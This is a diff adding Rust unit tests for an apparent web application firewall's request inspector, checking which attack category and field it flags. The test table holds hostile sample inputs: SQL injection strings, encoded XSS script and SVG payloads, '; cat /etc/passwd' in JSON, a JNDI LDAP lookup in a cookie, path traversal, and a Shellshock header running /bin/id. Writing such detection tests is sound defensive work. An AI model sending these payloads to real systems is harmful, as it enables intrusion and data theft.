@@ -99,3 +99,139 @@ pub fn inspect(request: &Request<'_>, protections: &Protections) -> Vec<Finding>
     }
     found
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn all(effect: Effect) -> Protections {
+        Protections {
+            sqli: effect,
+            xss: effect,
+            cmdi: effect,
+            code_injection: effect,
+            lfi: effect,
+            shellshock: effect,
+            attack_tools: effect,
+            malformed_request: effect,
+        }
+    }
+
+    fn found(
+        target: &str,
+        headers: &[(&str, &str)],
+        body: &str,
+        protections: &Protections,
+    ) -> Vec<(&'static str, String)> {
+        let request = Request {
+            method: "POST",
+            target,
+            headers: headers.iter().map(|(n, v)| (*n, v.as_bytes())).collect(),
+            body: body.as_bytes(),
+        };
+        inspect(&request, protections)
+            .into_iter()
+            .map(|f| (f.attack.as_str(), f.field))
+            .collect()
+    }
+
+    #[test]
+    fn findings_per_attack_in_contract_order() {
+        let on = all(Effect::Alert);
+        let form = ("Content-Type", "application/x-www-form-urlencoded");
+        let json = ("Content-Type", "application/json");
+        let table: &[(&str, &[(&str, &str)], &str, &[(&str, &str)])] = &[
+            (
+                "/products?id=42&q=shoes",
+                &[("User-Agent", "curl/8.5.0")],
+                "",
+                &[],
+            ),
+            (
+                "/p?id=1%27%20OR%20%271%27%3D%271",
+                &[],
+                "",
+                &[("sqli", "query:id")],
+            ),
+            // Double encoding, then HTML references.
+            (
+                "/p?x=%253Cscript%253Ealert(1)%253C/script%253E",
+                &[],
+                "",
+                &[("xss", "query:x")],
+            ),
+            (
+                "/p",
+                &[form],
+                "c=%26lt%3Bsvg%20onload%3Dalert(1)%26gt%3B",
+                &[("xss", "body:c")],
+            ),
+            (
+                "/p",
+                &[json],
+                r#"{"a":{"b":["ok","; cat /etc/passwd"]}}"#,
+                &[("cmdi", "body:a.b[1]"), ("lfi", "body:a.b[1]")],
+            ),
+            (
+                "/p",
+                &[("Cookie", "s=1; t=${jndi:ldap://x/a}")],
+                "",
+                &[("codeInjection", "cookie:t")],
+            ),
+            ("/files/..%2f..%2fetc/passwd", &[], "", &[("lfi", "path")]),
+            (
+                "/cgi-bin/x",
+                &[("Accept", "() { :; }; /bin/id")],
+                "",
+                // A protocol header: only Shellshock and tools are looked for in it.
+                &[("shellshock", "header:Accept")],
+            ),
+            (
+                "/",
+                &[("User-Agent", "sqlmap/1.8 (https://sqlmap.org)")],
+                "",
+                &[("attackTools", "header:User-Agent")],
+            ),
+            (
+                "/",
+                &[("Acunetix-Product", "WVS")],
+                "",
+                &[("attackTools", "header:Acunetix-Product")],
+            ),
+            ("/p?a=100%", &[], "", &[("malformedRequest", "query:a")]),
+            (
+                "/p?id=1%27%20or%201%3D1--&bad=%zz",
+                &[],
+                "",
+                &[("sqli", "query:id"), ("malformedRequest", "query:bad")],
+            ),
+        ];
+        for (target, headers, body, want) in table {
+            let want: Vec<(&str, String)> = want.iter().map(|(a, f)| (*a, f.to_string())).collect();
+            assert_eq!(
+                found(target, headers, body, &on),
+                want,
+                "{target} {headers:?} {body}"
+            );
+        }
+    }
+
+    #[test]
+    fn disabled_protections_find_nothing() {
+        let off = all(Effect::Disable);
+        assert!(found("/p?id=1' or '1'='1&a=%", &[], "", &off).is_empty());
+        let only_xss = Protections {
+            xss: Effect::Prevent,
+            ..all(Effect::Disable)
+        };
+        assert_eq!(
+            found(
+                "/p?id=1' or '1'='1&q=<script>alert(1)</script>",
+                &[],
+                "",
+                &only_xss
+            ),
+            [("xss", "query:q".to_owned())]
+        );
+    }
+}
